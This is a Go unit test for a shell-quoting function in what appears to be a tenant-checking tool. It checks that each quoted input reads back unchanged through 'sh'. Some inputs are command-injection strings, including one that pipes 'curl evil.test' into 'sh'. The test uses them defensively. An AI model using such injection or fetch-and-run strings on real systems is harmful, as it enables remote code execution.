package finding_test

import (
	"os/exec"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tenantguard/tenantguard/cmd/tenantguard/internal/finding"
)

// TestWord has a shell read words.
func TestWord(t *testing.T) {
	for text, want := range map[string]string{
		"acme":                      "acme",
		"tenantguard.io/tenant":     "tenantguard.io/tenant",
		"":                          "''",
		"*.acme.example.com":        "'*.acme.example.com'",
		"a b":                       "'a b'",
		"a; id":                     "'a; id'",
		"$(id)`id`":                 "'$(id)`id`'",
		"it's":                      `'it'\''s'`,
		"-f":                        "'-f'",
		"a\nid":                     "'a\nid'",
		`\`:                         `'\'`,
		"a'; curl evil.test | sh;'": `'a'\''; curl evil.test | sh;'\'''`,
	} {
		got := finding.Word(text)
		assert.Equal(t, want, got)
		read, err := exec.Command("sh", "-c", "printf %s "+got).Output()
		require.NoError(t, err)
		assert.Equal(t, text, string(read))
	}
}
